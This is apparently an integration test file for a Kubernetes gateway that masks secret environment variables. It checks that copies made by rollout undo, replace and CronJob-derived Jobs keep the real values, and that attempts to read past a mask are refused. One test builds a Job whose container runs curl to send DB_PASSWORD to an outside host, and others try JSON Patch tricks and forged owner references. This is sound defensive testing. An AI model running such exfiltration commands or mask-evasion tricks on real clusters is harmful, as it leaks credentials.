import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningGateway } from '../environment/running-gateway.ts';

// biome-ignore lint/suspicious/noExplicitAny: tests take objects apart
type Loose = any;

const FIRST = 'f1rst-p4ssword';
const SECOND = 's3cond-p4ssword';

function podTemplate(password: string, command = ['sleep', '60']) {
  return {
    metadata: { labels: { app: 'copies' } },
    spec: {
      restartPolicy: 'Always',
      containers: [
        { name: 'web', image: 'example.com/web:1', command, env: [{ name: 'DB_PASSWORD', value: password }] },
      ],
    },
  };
}

const selector = { matchLabels: { app: 'copies' } };
const WORKLOADS: Readonly<Record<string, object>> = {
  Deployment: { replicas: 1, selector },
  DaemonSet: { selector },
  StatefulSet: { replicas: 1, selector, serviceName: 'copies' },
};

/** Masks that kubectl copies from one object into another of the same lineage. */
export function describeMasksOfCopies(environment: () => RunningGateway): void {
  describe('case 37: masks in copies', () => {
    const namespace = 'gatehouse-copies';
    const directly = async (args: readonly string[], input?: object) => {
      const way = input === undefined ? {} : { input: JSON.stringify(input) };
      const result = await environment().directly(['-n', namespace, ...args], way);
      expect(result.code, result.stderr).toBe(0);
      return result.stdout;
    };
    const through = (args: readonly string[], input?: object) =>
      environment().kubectl(['-n', namespace, ...args], input === undefined ? {} : { input: JSON.stringify(input) });
    const passwordIn = async (kind: string, name: string): Promise<string> => {
      const object = JSON.parse(await directly(['get', kind, name, '-o', 'json'])) as Loose;
      const template = kind === 'cronjob' ? object.spec.jobTemplate.spec.template : object.spec.template;
      return template.spec.containers[0].env[0].value;
    };
    const waitFor = async (condition: () => Promise<boolean>): Promise<boolean> => {
      for (let attempt = 0; attempt < 100; attempt += 1) {
        if (await condition()) return true;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      return false;
    };

    beforeAll(async () => {
      await environment().directly(['create', 'namespace', namespace]);
    });
    afterAll(async () => {
      await environment().directly(['delete', 'namespace', namespace, '--wait=false']);
    });

    it.each(Object.entries(WORKLOADS))('rollout undo of a %s brings the old value back', async (kind, spec) => {
      if (kind !== 'Deployment' && environment().cluster.name === 'demo') {
        console.info(`the demo cluster keeps no revisions of a ${kind}: its rollout undo is tested on the real one`);
        return;
      }
      const name = 'web';
      const workload = (password: string) => ({
        apiVersion: 'apps/v1',
        kind,
        metadata: { name },
        spec: { ...spec, template: podTemplate(password) },
      });
      const revisions = kind === 'Deployment' ? 'replicasets' : 'controllerrevisions';
      const count = async () => JSON.parse(await directly(['get', revisions, '-o', 'json'])).items.length as number;
      const before = await count();
      await directly(['apply', '-f', '-'], workload(FIRST));
      expect(await waitFor(async () => (await count()) > before)).toBe(true);
      await directly(['apply', '-f', '-'], workload(SECOND));
      expect(await waitFor(async () => (await count()) > before + 1)).toBe(true);
      const shown = await through(['get', kind, name, '-o', 'yaml']);
      expect(shown.stdout).toMatch(/gatehouse-masked/);
      expect(shown.stdout).not.toMatch(/p4ssword/);
      const undone = await through(['rollout', 'undo', `${kind}/${name}`]);
      expect(undone.code, undone.stderr).toBe(0);
      expect(await passwordIn(kind, name)).toBe(FIRST);
    });

    it('replace of a Deployment that was read, with another image', async () => {
      const read = JSON.parse((await through(['get', 'deployment', 'web', '-o', 'json'])).stdout) as Loose;
      delete read.metadata.resourceVersion;
      read.spec.template.spec.containers[0].image = 'example.com/web:2';
      read.spec.template.spec.containers[0].env.unshift({ name: 'NEW', value: 'x' });
      // kubectl binds it to the version that it reads first, and the roll-out before may still be writing its status.
      let replaced = await through(['replace', '-f', '-'], read);
      const settled = async () => {
        if (!/\(Conflict\)/.test(replaced.stderr)) return true;
        replaced = await through(['replace', '-f', '-'], read);
        return false;
      };
      expect(await waitFor(settled)).toBe(true);
      expect(replaced.code, replaced.stderr).toBe(0);
      const stored = JSON.parse(await directly(['get', 'deployment', 'web', '-o', 'json'])) as Loose;
      expect(stored.spec.template.spec.containers[0]).toMatchObject({
        image: 'example.com/web:2',
        env: [
          { name: 'NEW', value: 'x' },
          { name: 'DB_PASSWORD', value: FIRST },
        ],
      });
      expect(JSON.stringify(stored)).not.toMatch(/gatehouse-masked/);
    });

    it('the mask of one variable is refused in another, which would be shown', async () => {
      const read = JSON.parse((await through(['get', 'deployment', 'web', '-o', 'json'])).stdout) as Loose;
      const { value } = read.spec.template.spec.containers[0].env.at(-1);
      const env = [{ name: 'HARMLESS', value }];
      const patch = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'web', env }] } } } });
      const { code, stderr } = await through(['patch', 'deployment', 'web', '-p', patch]);
      expect(code).not.toBe(0);
      expect(stderr).toMatch(/belongs to spec\.template\.spec\.containers/);
    });

    it.each<[string, Loose]>([
      [
        'copy',
        { op: 'copy', from: '/spec/template/spec/containers/0/env', path: '/spec/template/spec/containers/0/args' },
      ],
      ['test', { op: 'test', path: '/spec/template/spec/containers/0/env/1/value', value: FIRST }],
    ])('a JSON Patch %s of a masked variable is refused', async (_name, operation) => {
      const patch = JSON.stringify([operation]);
      const { code, stderr } = await through(['patch', 'deployment', 'web', '--type=json', '-p', patch]);
      expect(code).not.toBe(0);
      expect(stderr).toMatch(/read a value past its mask/);
    });

    describe('a Job from a CronJob', () => {
      const template = { ...podTemplate(FIRST), spec: { ...podTemplate(FIRST).spec, restartPolicy: 'Never' } };
      const cronJob = {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata: { name: 'nightly' },
        spec: { schedule: '0 0 1 1 *', jobTemplate: { spec: { template } } },
      };

      beforeAll(async () => {
        await directly(['apply', '-f', '-'], cronJob);
      });

      it('kubectl create job --from copies masks, and the Job gets the values', async () => {
        const { code, stderr } = await through(['create', 'job', 'now', '--from=cronjob/nightly']);
        expect(code, stderr).toBe(0);
        expect(await passwordIn('job', 'now')).toBe(FIRST);
      });

      it('but not where it runs something else with them', async () => {
        const read = JSON.parse((await through(['get', 'cronjob', 'nightly', '-o', 'json'])).stdout) as Loose;
        const ownerReferences = [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'nightly', uid: read.metadata.uid }];
        const { spec } = read.spec.jobTemplate;
        spec.template.spec.containers[0].command = ['curl', 'http://example.com/$(DB_PASSWORD)'];
        const metadata = { name: 'stolen', ownerReferences };
        const job = { apiVersion: 'batch/v1', kind: 'Job', metadata, spec };
        const { code, stderr } = await through(['create', '-f', '-'], job);
        expect(code).not.toBe(0);
        expect(stderr).toMatch(/DB_PASSWORD|env/);
      });

      it('nor where it only says so of a CronJob that is not there', async () => {
        const read = JSON.parse((await through(['get', 'cronjob', 'nightly', '-o', 'json'])).stdout) as Loose;
        const ownerReferences = [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'nightly', uid: 'another' }];
        const metadata = { name: 'stolen', ownerReferences };
        const job = { apiVersion: 'batch/v1', kind: 'Job', metadata, spec: read.spec.jobTemplate.spec };
        expect((await through(['create', '-f', '-'], job)).code).not.toBe(0);
      });
    });
  });
}
